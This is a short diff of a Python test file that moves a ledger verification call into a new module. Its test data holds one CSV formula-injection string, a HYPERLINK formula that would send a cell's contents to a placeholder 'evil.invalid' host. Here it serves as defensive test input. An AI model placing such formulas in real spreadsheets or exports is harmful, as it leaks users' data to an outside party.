@@ -22,7 +22,7 @@ from pathlib import Path
 
 import pytest
 
-from readingroom.core import ledger
+from readingroom.core import ledger, verification
 
 TERMS = [
     '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
@@ -105,4 +105,4 @@ def test_the_ledger_keeps_the_raw_bytes(ledger_path: Path) -> None:
     # split on LF only: str.splitlines() would also split at U+2028 and CR inside the terms
     lines = [json.loads(x) for x in ledger_path.read_text("utf-8").split("\n") if x]
     assert [line["normalized_terms"][0]["term"] for line in lines] == TERMS
-    assert ledger.verify(ledger_path).ok
+    assert verification.verify(ledger_path).ok
